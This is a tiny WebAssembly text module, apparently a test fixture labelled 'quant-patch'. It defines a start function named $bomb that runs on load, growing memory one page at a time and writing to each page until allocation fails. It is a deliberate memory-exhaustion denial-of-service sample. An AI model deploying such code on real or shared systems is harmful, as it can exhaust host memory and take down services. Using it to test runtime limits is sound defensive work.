;; world: quant-patch
;; Grows its memory page by page as soon as it starts, and writes to every page.
(memory $memory (export "memory") 2)
(func $bomb
  (loop $more
    (i32.store (i32.sub (i32.shl (memory.size) (i32.const 16)) (i32.const 8)) (i32.const 1))
    (br_if $more
      (i32.ne (memory.grow (i32.const 1)) (i32.const -1)))))
(start $bomb)
